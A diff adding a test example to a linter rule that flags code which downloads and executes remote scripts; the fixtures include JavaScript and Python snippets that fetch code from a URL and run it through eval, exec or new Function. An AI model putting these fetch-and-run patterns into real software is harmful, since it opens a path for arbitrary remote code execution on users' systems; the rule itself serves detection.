@@ -12,6 +12,9 @@ extension CodeDownloadExecuteRule {
     Example(
       "const https = require('https');\nfunction get(url) {\n  return new Promise((resolve) => https.get(url, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }));\n}\nasync function patch() {\n  const src = await get(INDEX);\n  const run = ↓new Function('require', src);\n  run(require);\n}\n",
       language: .javascript, note: "the script's own download helper returns the code"),
+    Example(
+      "const https = require('node:https');\nhttps\n  .get('https://cdn.example.net/p.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => ↓eval(d)); });\n",
+      language: .javascript, note: "a node: import and a call chained across a line break"),
     Example("from urllib.request import urlopen\nsrc = urlopen(URL).read()\ncode = src.decode()\n↓exec(code)\n", language: .python, note: "data flow through two assignments"),
     Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
     Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
